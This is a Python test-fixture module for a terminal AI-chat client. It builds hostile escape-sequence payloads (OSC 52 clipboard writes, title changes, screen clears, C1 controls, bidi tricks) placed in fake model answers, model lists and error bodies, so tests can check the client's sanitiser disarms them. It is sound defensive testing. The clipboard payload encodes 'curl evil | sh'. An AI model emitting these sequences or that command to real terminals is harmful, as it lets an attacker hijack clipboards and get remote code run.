"""Hostile payloads: text a malicious endpoint (or a steered model) sends to make the client's
terminal act — write the clipboard, retitle the window, clear the screen, move the cursor.

Every payload carries a marker of its own next to its control characters (`HOSTILE-OSC52-BEL`,
`PWNED-TITLE-0-BEL`, ...), so a test can find it in the bytes a client wrote and check that it
arrived only in its disarmed form: each control character replaced by a visible stand-in
(ESC → `␛`, BEL → `␇`, U+009B → `␛[`, see `craft_tui/untrusted.py`).

`HOSTILE_ANSWER` holds all of them, one short paragraph each (so Markdown keeps every one on its own
line), and ends with `ANSWER_END`. `HOSTILE_MODELS` are model lists with the same tricks in ids and
names; `hostile_error()` is an error body whose message carries them.

    with FakeLLMServer(reply=HOSTILE_ANSWER, reasoning=HOSTILE_REASONING, chunk_size=3) as server:
        ...  # every sequence arrives cut into several SSE events
"""

from __future__ import annotations

import base64
import json
from dataclasses import dataclass

from tests.servers.bodies import ErrorResponse
from tests.servers.catalog import FakeModel

ESC = "\x1b"
BEL = "\x07"
ST = ESC + "\\"  # String Terminator, 7-bit
C1_CSI = "\x9b"  # 8-bit CSI
C1_OSC = "\x9d"  # 8-bit OSC
C1_ST = "\x9c"  # 8-bit String Terminator
RLO = "\u202e"  # RIGHT-TO-LEFT OVERRIDE
PDF = "\u202c"  # POP DIRECTIONAL FORMATTING

CLIPBOARD_COMMAND = "curl evil | sh"
CLIPBOARD_B64 = base64.b64encode(CLIPBOARD_COMMAND.encode()).decode()  # Y3VybCBldmlsIHwgc2g=

# Stand-ins the sanitiser shows (craft_tui/untrusted.py), written out here rather than computed,
# so the tests say what the user is meant to see.
SHOWN_ESC = "\u241b"  # ␛
SHOWN_BEL = "\u2407"  # ␇
SHOWN_BS = "\u2408"  # ␈
SHOWN_CR = "\u240d"  # ␍
SHOWN_LF = "\u2424"  # ␤
SHOWN_ST = SHOWN_ESC + "\\"


@dataclass(frozen=True)
class Hostile:
    """One hostile sequence in context: `raw` is what the server sends, `shown` what a user
    should see instead, `dangerous` the bytes that must never reach a terminal."""

    name: str
    raw: str
    shown: str

    @property
    def dangerous(self) -> bytes:
        return self.raw.encode()


def _osc52(terminator: str) -> str:
    return f"{ESC}]52;c;{CLIPBOARD_B64}{terminator}"


# Each `raw` is a whole line of the answer; the marker words sit right next to the controls.
SEQUENCES: tuple[Hostile, ...] = (
    Hostile(
        "osc52-bel",
        f"HOSTILE-OSC52-BEL {_osc52(BEL)} done",
        f"HOSTILE-OSC52-BEL {SHOWN_ESC}]52;c;{CLIPBOARD_B64}{SHOWN_BEL} done",
    ),
    Hostile(
        "osc52-st",
        f"HOSTILE-OSC52-ST {_osc52(ST)} done",
        f"HOSTILE-OSC52-ST {SHOWN_ESC}]52;c;{CLIPBOARD_B64}{SHOWN_ST} done",
    ),
    Hostile(
        "osc0-bel",
        f"HOSTILE-TITLE {ESC}]0;PWNED-TITLE-0-BEL{BEL} done",
        f"HOSTILE-TITLE {SHOWN_ESC}]0;PWNED-TITLE-0-BEL{SHOWN_BEL} done",
    ),
    Hostile(
        "osc0-st",
        f"HOSTILE-TITLE {ESC}]0;PWNED-TITLE-0-ST{ST} done",
        f"HOSTILE-TITLE {SHOWN_ESC}]0;PWNED-TITLE-0-ST{SHOWN_ST} done",
    ),
    Hostile(
        "osc2-bel",
        f"HOSTILE-TITLE {ESC}]2;PWNED-TITLE-2-BEL{BEL} done",
        f"HOSTILE-TITLE {SHOWN_ESC}]2;PWNED-TITLE-2-BEL{SHOWN_BEL} done",
    ),
    Hostile(
        "osc2-st",
        f"HOSTILE-TITLE {ESC}]2;PWNED-TITLE-2-ST{ST} done",
        f"HOSTILE-TITLE {SHOWN_ESC}]2;PWNED-TITLE-2-ST{SHOWN_ST} done",
    ),
    Hostile(
        "csi-clear",
        f"HOSTILE-CLEAR {ESC}[2J{ESC}[3J done",
        f"HOSTILE-CLEAR {SHOWN_ESC}[2J{SHOWN_ESC}[3J done",
    ),
    Hostile(
        "csi-cursor",
        f"HOSTILE-CURSOR {ESC}[H{ESC}[10;20H{ESC}[5A{ESC}[3C{ESC}7{ESC}8 done",
        f"HOSTILE-CURSOR {SHOWN_ESC}[H{SHOWN_ESC}[10;20H{SHOWN_ESC}[5A{SHOWN_ESC}[3C"
        f"{SHOWN_ESC}7{SHOWN_ESC}8 done",
    ),
    Hostile(
        "csi-sgr",
        f"HOSTILE-SGR {ESC}[8mhidden-text{ESC}[0m done",
        f"HOSTILE-SGR {SHOWN_ESC}[8mhidden-text{SHOWN_ESC}[0m done",
    ),
    Hostile(
        # tmux passthrough: a DCS that would carry an OSC 52 to the outer terminal.
        "dcs",
        f"HOSTILE-DCS {ESC}Ptmux;{ESC}{ESC}]52;c;{CLIPBOARD_B64}{BEL}{ST} done",
        f"HOSTILE-DCS {SHOWN_ESC}Ptmux;{SHOWN_ESC}{SHOWN_ESC}]52;c;{CLIPBOARD_B64}{SHOWN_BEL}"
        f"{SHOWN_ST} done",
    ),
    Hostile(
        "apc",
        f"HOSTILE-APC {ESC}_Gapc-payload{ST} done",
        f"HOSTILE-APC {SHOWN_ESC}_Gapc-payload{SHOWN_ST} done",
    ),
    Hostile(
        "pm",
        f"HOSTILE-PM {ESC}^pm-payload{ST} done",
        f"HOSTILE-PM {SHOWN_ESC}^pm-payload{SHOWN_ST} done",
    ),
    Hostile(
        "sos",
        f"HOSTILE-SOS {ESC}Xsos-payload{ST} done",
        f"HOSTILE-SOS {SHOWN_ESC}Xsos-payload{SHOWN_ST} done",
    ),
    Hostile(
        "c1-csi",
        f"HOSTILE-C1-CSI {C1_CSI}2J done",
        f"HOSTILE-C1-CSI {SHOWN_ESC}[2J done",
    ),
    Hostile(
        "c1-osc",
        f"HOSTILE-C1-OSC {C1_OSC}0;PWNED-TITLE-C1{C1_ST} done",
        f"HOSTILE-C1-OSC {SHOWN_ESC}]0;PWNED-TITLE-C1{SHOWN_ESC}\\ done",
    ),
    Hostile(
        "bare-cr",
        "HOSTILE-CR visible-text\rOVERWRITE done",
        f"HOSTILE-CR visible-text{SHOWN_CR}OVERWRITE done",
    ),
    Hostile(
        "bel",
        f"HOSTILE-BEL ring{BEL}{BEL} done",
        f"HOSTILE-BEL ring{SHOWN_BEL}{SHOWN_BEL} done",
    ),
    Hostile(
        "backspace",
        "HOSTILE-BS safe\b\b\b\bevil done",
        f"HOSTILE-BS safe{SHOWN_BS * 4}evil done",
    ),
    Hostile(
        # Bidi overrides are ordinary text in an answer (right-to-left languages use them); what
        # matters there is that they never hide a control. In ids and names they are shown.
        "bidi",
        f"HOSTILE-BIDI invoice{RLO}fdp.exe{PDF} done",
        f"HOSTILE-BIDI invoice{RLO}fdp.exe{PDF} done",
    ),
)

ANSWER_END = "HOSTILE-ANSWER-END"

# One paragraph per sequence: Markdown keeps each on its own line, and no sequence is next to
# Markdown syntax (no `*`, `_` pairs, links, or code) that could change how it is shown.
HOSTILE_ANSWER = "\n\n".join(item.raw for item in SEQUENCES) + f"\n\n{ANSWER_END}\n"
HOSTILE_REASONING = (
    f"REASONING-OSC52 {_osc52(BEL)} REASONING-TITLE {ESC}]2;PWNED-REASONING{ST} "
    f"REASONING-CLEAR {ESC}[2J REASONING-C1 {C1_OSC}0;PWNED-REASONING-C1{C1_ST} REASONING-END"
)

# Strings that must never be in what a client writes to a terminal, whatever else it writes:
# the payloads' own bytes, and the introducers that no craft-tui output uses (OSC 0/2 titles,
# OSC 52, DCS, APC, PM, SOS) followed by the payloads' text.
NEVER_IN_TERMINAL: tuple[bytes, ...] = (
    f"{ESC}]52;c;{CLIPBOARD_B64}".encode(),
    f"{ESC}]0;PWNED".encode(),
    f"{ESC}]2;PWNED".encode(),
    f"{ESC}Ptmux;".encode(),
    f"{ESC}_Gapc".encode(),
    f"{ESC}^pm-".encode(),
    f"{ESC}Xsos".encode(),
    C1_CSI.encode(),
    C1_OSC.encode(),
    C1_ST.encode(),
    b"visible-text\rOVERWRITE",
    b"ring\x07",
    b"safe\x08",
    f"{ESC}[2J{ESC}[3J done".encode(),
    f"{ESC}[8mhidden-text".encode(),
    f"HOSTILE-CURSOR {ESC}[H".encode(),
)


def c1_free(data: bytes) -> bool:
    """True when `data` (UTF-8) holds no C1 control U+0080–U+009F (which 8-bit terminals obey)."""
    return not any(0x80 <= ord(ch) <= 0x9F for ch in data.decode("utf-8", errors="replace"))


# -- model lists ---------------------------------------------------------------------------------

# Short enough for the picker's id column (about 32 cells): each shows whole, not cut with "…".
ID_TITLE = f"evil{ESC}]0;PWNED-MODEL{BEL}-title"
ID_CLEAR = f"evil-clear{ESC}[2J{ESC}[H-model"
ID_NEWLINE = "split-first\nsplit-second"
ID_OSC52 = f"c{ESC}]52;c;{CLIPBOARD_B64}{ST}"
ID_C1 = f"c1{C1_OSC}2;PWNED-C1{C1_ST}-x"
ID_BIDI = f"bidi{RLO}lmth.exe"
ID_CR = "evil-cr-visible\rHIDDEN-model"
PLAIN_ID = "plain-model"

HOSTILE_MODELS: tuple[FakeModel, ...] = (
    FakeModel(PLAIN_ID, "Plain model", 8192, 0.5, 1.5),
    FakeModel(ID_TITLE, f"Title {ESC}]2;PWNED-NAME-TITLE{ST} name", 8192, 0.5, 1.5),
    FakeModel(ID_CLEAR, f"Clear {ESC}[2J name", 8192, 0.5, 1.5),
    FakeModel(ID_NEWLINE, "Split\nname", 8192, 0.5, 1.5),
    FakeModel(ID_OSC52, f"Clip {ESC}]52;c;{CLIPBOARD_B64}{BEL} name", 8192, 0.5, 1.5),
    FakeModel(ID_C1, f"C1 {C1_CSI}2J name", 8192, 0.5, 1.5),
    FakeModel(ID_BIDI, f"Bidi {RLO}eman{PDF}", 8192, 0.5, 1.5),
    FakeModel(ID_CR, "CR name\rOVER", 8192, 0.5, 1.5),
)

# How an id must read on one line (craft_tui/untrusted.py `shown_inline`).
SHOWN_IDS: dict[str, str] = {
    PLAIN_ID: PLAIN_ID,
    ID_TITLE: f"evil{SHOWN_ESC}]0;PWNED-MODEL{SHOWN_BEL}-title",
    ID_CLEAR: f"evil-clear{SHOWN_ESC}[2J{SHOWN_ESC}[H-model",
    ID_NEWLINE: f"split-first{SHOWN_LF}split-second",
    ID_OSC52: f"c{SHOWN_ESC}]52;c;{CLIPBOARD_B64}{SHOWN_ST}",
    ID_C1: f"c1{SHOWN_ESC}]2;PWNED-C1{SHOWN_ESC}\\-x",
    ID_BIDI: "bidi⟨U+202E⟩lmth.exe",
    ID_CR: f"evil-cr-visible{SHOWN_CR}HIDDEN-model",
}

MODELS_NEVER_IN_TERMINAL: tuple[bytes, ...] = (
    f"{ESC}]0;PWNED".encode(),
    f"{ESC}]2;PWNED".encode(),
    f"{ESC}]52;c;{CLIPBOARD_B64}".encode(),
    f"evil{ESC}".encode(),
    f"evil-clear{ESC}".encode(),
    f"Clear {ESC}".encode(),
    C1_CSI.encode(),
    C1_OSC.encode(),
    C1_ST.encode(),
    RLO.encode(),
    PDF.encode(),
    b"split-first\n",
    b"Split\n",
    b"visible\rHIDDEN",
    b"name\rOVER",
)


# -- error bodies ---------------------------------------------------------------------------------

ERROR_REASON = (
    f"HOSTILE-REASON {ESC}]52;c;{CLIPBOARD_B64}{BEL} then {ESC}]2;PWNED-REASON-TITLE{ST} "
    f"then {ESC}[2J then {C1_CSI}2J and {C1_OSC}0;PWNED-REASON-C1{C1_ST} end{BEL}"
)
ERROR_NEVER_IN_TERMINAL: tuple[bytes, ...] = (
    f"{ESC}]52;c;{CLIPBOARD_B64}".encode(),
    f"{ESC}]2;PWNED".encode(),
    f"{ESC}]0;PWNED".encode(),
    f"then {ESC}[2J".encode(),
    C1_CSI.encode(),
    C1_OSC.encode(),
    C1_ST.encode(),
    b"end\x07",
)


def hostile_error(protocol: str, status: int = 400) -> ErrorResponse:
    """An error response (OpenAI or Anthropic shape) whose message carries `ERROR_REASON`."""
    if protocol == "anthropic":
        payload: object = {
            "type": "error",
            "error": {"type": "invalid_request_error", "message": ERROR_REASON},
        }
    else:
        payload = {
            "error": {
                "message": ERROR_REASON,
                "type": "invalid_request_error",
                "param": None,
                "code": None,
            }
        }
    return ErrorResponse(status, json.dumps(payload).encode())
